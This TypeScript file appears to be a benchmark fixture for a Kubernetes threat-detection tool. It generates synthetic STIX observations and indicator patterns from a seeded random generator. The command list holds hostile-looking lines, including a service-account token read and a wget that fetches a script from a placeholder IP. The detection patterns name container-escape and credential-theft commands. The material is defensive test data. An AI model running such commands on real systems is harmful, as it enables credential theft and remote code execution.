/**
 * Synthetic but realistic benchmark input: observations shaped like the ones kstorm's demo emits (an SSH
 * connection, a process in a pod, a token read, an API request), with values drawn from a seeded PRNG, and
 * indicator sets of a stated mix. Everything is deterministic so runs compare.
 */
import {
  k8sApiRequest,
  k8sContainer,
  k8sObject,
  k8sPod,
  k8sProcess,
  observedData,
  type StixObject,
  sco,
  Timestamp,
} from '../src/stix/index.js';

/** A small deterministic PRNG (mulberry32), so every run sees the same corpus. */
export function prng(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const COMMANDS = [
  '/usr/sbin/sshd -D',
  '-bash',
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  'curl -sk https://kubernetes.default.svc/api/v1/namespaces',
  'ls -la /var/log',
  'python3 -m http.server 8080',
  'ps aux',
  'id',
  'uname -a',
  'wget http://203.0.113.9/x.sh -O /tmp/x.sh',
];
const RESOURCES = ['pods', 'secrets', 'persistentvolumes', 'rolebindings', 'configmaps', 'nodes'];
const VERBS = ['get', 'list', 'create', 'delete', 'watch'];

/** One observation as it would arrive on a line: the observed-data and the SCOs it refers to. */
export type ObservationRecord = readonly StixObject[];

/** The values an indicator generator may pick to hit the corpus. */
export interface CorpusValues {
  readonly ips: readonly string[];
  readonly commands: readonly string[];
  readonly resources: readonly string[];
}

/** `count` observations one second apart, cycling through four shapes. */
export function observationCorpus(
  count: number,
  seed = 7,
): { records: ObservationRecord[]; values: CorpusValues } {
  const random = prng(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const start = Timestamp.parse('2026-11-23T09:00:00Z');
  const ips: string[] = [];
  const records: ObservationRecord[] = [];
  for (let i = 0; i < count; i++) {
    const at = start.plusSeconds(i);
    const ip = `198.51.${Math.floor(random() * 256)}.${Math.floor(random() * 256)}`;
    ips.push(ip);
    const pod = k8sPod({
      cluster: 'bench',
      namespace: `ns-${i % 50}`,
      name: `pod-${i % 500}`,
      node_name: 'node-1',
    });
    const container = k8sContainer({
      container_id: `containerd://${(i % 500).toString(16).padStart(64, 'a')}`,
      name: 'app',
      pod_ref: pod.id,
    });
    const context = {
      k8s_pod_ref: pod.id,
      k8s_container_ref: container.id,
      k8s_node_name: 'node-1',
      k8s_cluster: 'bench',
    };
    const image = sco('file', { name: pick(['bash', 'curl', 'cat', 'python3', 'sshd']) });
    const process = k8sProcess(
      { ...context, exec_id: `exec-${i}` },
      { pid: 1000 + (i % 30000), command_line: pick(COMMANDS), image_ref: image.id },
    );
    let objects: StixObject[];
    switch (i % 4) {
      case 0: {
        const src = sco('ipv4-addr', { value: ip });
        const dst = sco('ipv4-addr', { value: '10.244.1.23' });
        const traffic = sco('network-traffic', {
          src_ref: src.id,
          dst_ref: dst.id,
          src_port: 40000 + (i % 20000),
          dst_port: pick([22, 2222, 443, 80, 6443]),
          protocols: ['ipv4', 'tcp'],
        });
        objects = [src, dst, traffic, process, image, pod, container];
        break;
      }
      case 1:
      case 2: {
        const file = sco('file', {
          name: pick(['token', 'passwd', 'shadow', 'config', 'id_rsa']),
          hashes: { 'SHA-256': (i * 2654435761).toString(16).padStart(64, '0').slice(-64) },
        });
        objects = [process, image, file, pod, container];
        break;
      }
      default: {
        const user = sco('user-account', {
          user_id: `system:serviceaccount:ns-${i % 50}:sa`,
          account_type: 'kubernetes-service-account',
        });
        const source = sco('ipv4-addr', { value: ip });
        const target = k8sObject({
          cluster: 'bench',
          api_group: '',
          api_version: 'v1',
          resource: pick(RESOURCES),
          name: `obj-${i % 100}`,
        });
        const request = k8sApiRequest({
          cluster: 'bench',
          audit_id: `audit-${i}`,
          verb: pick(VERBS),
          user_ref: user.id,
          src_refs: [source.id],
          object_ref: target.id,
          response_code: 200,
        });
        objects = [request, user, source, target];
      }
    }
    records.push([
      observedData(
        objects.map((o) => o.id),
        at,
        at,
      ) as StixObject,
      ...objects,
    ]);
  }
  return { records, values: { ips, commands: COMMANDS, resources: RESOURCES } };
}

/**
 * `count` indicators in a feed-like mix: 40% IP equality, 20% file-hash equality, 10% IN sets of IPs,
 * 10% API request equality (two comparisons), 10% LIKE / MATCHES on command lines, 10% two-step
 * FOLLOWEDBY … WITHIN 300 SECONDS. About 1 in 50 equality constants is taken from the corpus so some
 * observations match.
 */
export function indicatorMix(
  count: number,
  values: CorpusValues,
  seed = 11,
): { id: string; pattern: string }[] {
  const random = prng(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const ip = (): string =>
    random() < 0.02 ? pick(values.ips) : `203.0.${Math.floor(random() * 256)}.${Math.floor(random() * 256)}`;
  const hex = (): string => Array.from({ length: 64 }, () => Math.floor(random() * 16).toString(16)).join('');
  const out: { id: string; pattern: string }[] = [];
  for (let i = 0; i < count; i++) {
    const slot = i % 10;
    let pattern: string;
    if (slot < 4) pattern = `[ipv4-addr:value = '${ip()}']`;
    else if (slot < 6) pattern = `[file:hashes.'SHA-256' = '${hex()}']`;
    else if (slot === 6) pattern = `[ipv4-addr:value IN ('${ip()}', '${ip()}', '${ip()}')]`;
    else if (slot === 7)
      pattern = `[x-k8s-api-request:verb = '${pick(['create', 'delete', 'patch'])}' AND x-k8s-api-request:object_ref.name = 'obj-${Math.floor(random() * 2000)}']`;
    else if (slot === 8)
      pattern =
        random() < 0.5
          ? `[process:command_line LIKE '%${pick(values.commands).slice(0, 8)}%${Math.floor(random() * 1000)}']`
          : `[process:command_line MATCHES 'wget http://[0-9.]+/${Math.floor(random() * 1000)}']`;
    else
      pattern = `([network-traffic:src_ref.value = '${ip()}'] FOLLOWEDBY [process:exec_id = 'exec-${Math.floor(random() * 100000)}']) WITHIN 300 SECONDS`;
    out.push({ id: `indicator--00000000-0000-4000-8000-${String(i).padStart(12, '0')}`, pattern });
  }
  return out;
}

/**
 * `count` witness-style indicators, as threat models write them: every one a LIKE or MATCHES on process
 * command lines (the upstream witnesses are all of this kind), each made distinct by a token of its own;
 * one in eight needs only a literal the corpus's token reads contain, so it is tested on each of them.
 */
export function witnessMix(count: number, seed = 13): { id: string; pattern: string }[] {
  const random = prng(seed);
  const token = (): string => Math.floor(random() * 1_000_000).toString(36);
  const templates: ((t: string) => string)[] = [
    (t) => `[process:command_line MATCHES '^/usr/bin/nsenter -t 1 .*${t}']`,
    (t) => `[process:command_line LIKE 'kubectl logs %${t}%']`,
    (t) => `[process:command_line MATCHES 'curl .*://[0-9.]+/${t}']`,
    (t) => `[process:command_line LIKE '%mount -t proc%${t}']`,
    (t) => `[process:command_line MATCHES 'cat .*/serviceaccount/${t}']`,
    (t) => `[process:command_line MATCHES 'modprobe ${t}']`,
    (t) => `[process:command_line LIKE 'ln -s %${t}% /var/log/%']`,
    // One template in eight shares its literal with commands the corpus runs, so those tests do run.
    () =>
      `[process:command_line LIKE 'cat %/token' AND process:pid > ${1000 + Math.floor(random() * 30_000)}]`,
  ];
  return Array.from({ length: count }, (_, i) => ({
    id: `indicator--00000000-0000-4000-9000-${String(i).padStart(12, '0')}`,
    pattern: (templates[i % templates.length] ?? templates[0])?.(token()) ?? '',
  }));
}
